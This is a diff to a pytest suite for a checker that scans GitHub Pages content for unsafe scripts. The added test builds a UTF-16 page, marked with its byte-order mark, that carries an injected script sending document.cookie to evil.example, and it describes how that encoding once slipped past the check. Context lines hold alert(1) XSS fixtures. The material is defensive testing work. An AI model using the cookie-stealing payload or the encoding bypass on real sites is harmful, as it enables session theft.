@@ -97,6 +97,21 @@ def test_a_refused_file_is_named_at_every_path_that_holds_its_bytes(tmp_path, en
     assert refusal.startswith(f"{found[0]} (and 2 more): on gh-pages"), refusal
 
 
+def test_a_page_in_utf_16_with_its_byte_order_mark_is_read_as_a_browser_reads_it(tmp_path):
+    """A page on the branch written in UTF-16 with its mark, read as UTF-8, showed the output check no element (a NUL
+    between each letter) and passed; Chromium decodes it by its mark whatever charset GitHub Pages sends, and ran its
+    script. Read as UTF-16 now, its script is named."""
+    project = new_project(tmp_path / "project")
+    project.commit("2021-02-17")
+    forged = PAGE.format(n="x", extra="<script>fetch('https://evil.example/?'+document.cookie)</script>")
+    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=project.root, check=True, capture_output=True,
+                          input=b"\xff\xfe" + forged.encode("utf-16-le")).stdout.decode().strip()
+    with opened(project.root) as site:
+        found = servedpages.unsafe(site, {"fr/history/index.html": ("100644", blob)})
+    assert len(found) == 1 and found[0].startswith("fr/history/index.html: refused by the output check: <script>"), \
+        found
+
+
 @pytest.mark.parametrize("xml", [
     '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
     '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
